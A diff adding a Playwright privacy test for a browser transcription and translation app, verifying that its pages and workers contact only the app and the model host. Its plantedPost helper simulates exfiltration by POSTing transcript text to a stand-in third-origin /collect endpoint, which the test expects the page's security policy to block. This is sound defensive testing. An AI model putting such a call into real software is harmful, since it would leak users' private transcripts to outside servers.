@@ -1,0 +1,158 @@
+import { mkdirSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { chromium, expect, test } from '@playwright/test';
+import { sentence } from '../tools/testing/speech';
+import { startModelHost } from '../tools/model-host/model-host.mjs';
+import { startRecordingProxy } from './fixtures/recording-proxy';
+import { conversationFile } from './fixtures/speech-files';
+import { TEST_TRANSLATOR, TEST_WHISPER } from './fixtures/test-models';
+import { AppPage } from './pages/app-page';
+
+const executablePath = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
+
+/** A server on another origin that would gladly answer anyone: it only counts what reaches it. */
+async function thirdOrigin(): Promise<{ server: Server; origin: string; received: string[] }> {
+  const received: string[] = [];
+  const server = createServer((req, res) => {
+    received.push(`${req.method} ${req.url}`);
+    res.writeHead(200, {
+      'Access-Control-Allow-Origin': '*',
+      'Access-Control-Allow-Headers': '*',
+      'Cross-Origin-Resource-Policy': 'cross-origin',
+    });
+    res.end('ok');
+  });
+  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
+  return {
+    server,
+    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+    received,
+  };
+}
+
+/** Posts a transcript to `target` from wherever it runs; says how that ended. */
+const plantedPost = async (target: string) => {
+  const violations: string[] = [];
+  const seen = (e: Event) => violations.push((e as SecurityPolicyViolationEvent).blockedURI);
+  self.addEventListener('securitypolicyviolation', seen);
+  let outcome: string;
+  try {
+    const answer = await fetch(`${target}/collect`, { method: 'POST', body: 'the transcript' });
+    outcome = `answered ${answer.status}`;
+  } catch (error) {
+    outcome = `failed: ${String(error)}`;
+  }
+  // The violation event is queued as a task: let it arrive.
+  await new Promise((done) => setTimeout(done, 100));
+  self.removeEventListener('securitypolicyviolation', seen);
+  return { name: (self as { name?: string }).name ?? '', outcome, violations };
+};
+
+test.describe('privacy', () => {
+  test('a transcription with speakers and translation contacts only the app and the model host; a post planted in the page or a worker is blocked', async ({
+    baseURL,
+  }, info) => {
+    test.setTimeout(300_000);
+    mkdirSync(info.outputDir, { recursive: true });
+    const talk = conversationFile(info.outputDir, 'two-voices', [
+      { variant: 'm3', text: sentence('en', 5101, 9) },
+      { variant: 'f5', text: sentence('en', 5102, 9) },
+      { variant: 'm3', text: sentence('en', 5103, 9) },
+    ]);
+    const modelHost = await startModelHost('.models');
+    const hostOrigin = `http://127.0.0.1:${(modelHost.address() as AddressInfo).port}`;
+    const third = await thirdOrigin();
+    const proxy = await startRecordingProxy();
+    const browser = await chromium.launch({
+      executablePath,
+      args: [
+        '--no-sandbox',
+        '--disable-gpu',
+        '--disable-quic',
+        '--no-first-run',
+        '--disable-background-networking',
+        '--disable-component-update',
+        '--disable-sync',
+      ],
+    });
+    try {
+      // The proxy is the context's: the browser's own services (its updater) stay out of the
+      // record, everything the app's pages and workers send is in it. Loopback addresses skip
+      // a proxy unless told otherwise.
+      const page = await browser.newPage({
+        proxy: { server: `http://127.0.0.1:${proxy.port}`, bypass: '<-loopback>' },
+        baseURL: baseURL!,
+        viewport: { width: 1366, height: 900 },
+      });
+      const link = new URLSearchParams({
+        models: `${hostOrigin}/`,
+        model: TEST_WHISPER,
+        translation: TEST_TRANSLATOR,
+        segmentation: 'murmur-test/segmentation-synth',
+        embedding: 'murmur-test/embedding-synth',
+      });
+      await page.goto(`/?${link}`);
+      const app = new AppPage(page);
+      await app.byId('form.submit').waitFor();
+
+      await app.chooseFile(talk.path);
+      await app.toggle('toggle_diarization');
+      await app.fill('diarization_num_speakers', '2');
+      await app.toggle('toggle_direct_translate');
+      await app.fill('target_translation_language', 'french');
+      await app.submit();
+      await app.expectResult(240_000);
+      await expect(app.byId('timeline.lane')).toHaveCount(2);
+      const languages = await app.byId('result.segment-language').allInnerTexts();
+      expect(languages.length).toBeGreaterThan(0);
+      expect(languages.every((l) => l.trim().toLowerCase() === 'fr')).toBe(true);
+
+      // The recorder saw the workers' downloads: the model files come from the model host, and
+      // only the workers ask for them.
+      // The browser's own form-filling service asks Google about the page's fields (a tunnel
+      // the recorder refuses); the page's code has no part in it.
+      const pageRequests = proxy.requests.filter(
+        (r) => !(r.method === 'CONNECT' && r.url === 'content-autofill.googleapis.com:443'),
+      );
+      const hosts = new Set(pageRequests.map((r) => new URL(r.url).origin));
+      expect([...hosts].sort()).toEqual([baseURL!, hostOrigin].sort());
+      const modelFiles = proxy.requests.filter((r) => r.url.startsWith(hostOrigin));
+      for (const model of [TEST_WHISPER, TEST_TRANSLATOR, 'murmur-test/embedding-synth'])
+        expect(modelFiles.some((r) => r.url.includes(`/${model}/resolve/`))).toBe(true);
+      // The service worker is there, and what it fetched went through the recorder too.
+      expect(proxy.requests.some((r) => r.url === `${baseURL}/sw.js`)).toBe(true);
+
+      // A post planted in the page is refused by the policy before it leaves the browser.
+      const inPage = await page.evaluate(plantedPost, third.origin);
+      expect(inPage.outcome).toMatch(/^failed: TypeError/);
+      expect(inPage.violations).toEqual([`${third.origin}/collect`]);
+
+      // So is one planted in each of the page's workers: the app's own, ffmpeg's. (onnxruntime's
+      // threads wait on shared memory between jobs and answer nothing meanwhile.)
+      const answered: string[] = [];
+      for (const worker of page.workers()) {
+        const attempt = worker.evaluate(plantedPost, third.origin).catch(() => null);
+        const inWorker = await Promise.race([
+          attempt,
+          new Promise<null>((done) => setTimeout(() => done(null), 10_000)),
+        ]);
+        if (inWorker === null) continue;
+        answered.push(inWorker.name || worker.url());
+        expect(inWorker.outcome, worker.url()).toMatch(/^failed: TypeError/);
+        expect(inWorker.violations, worker.url()).toEqual([`${third.origin}/collect`]);
+      }
+      expect(answered.some((n) => n.startsWith('murmur-transcription-worker-'))).toBe(true);
+      expect(answered.some((n) => n.startsWith('murmur-speech-worker-'))).toBe(true);
+      expect(answered.some((n) => /\/assets\/worker-[\w-]+\.js$/.test(n))).toBe(true);
+
+      expect(third.received).toEqual([]);
+      expect(proxy.requests.filter((r) => r.url.startsWith(third.origin))).toEqual([]);
+    } finally {
+      await browser.close();
+      await proxy.close();
+      third.server.close();
+      modelHost.close();
+    }
+  });
+});
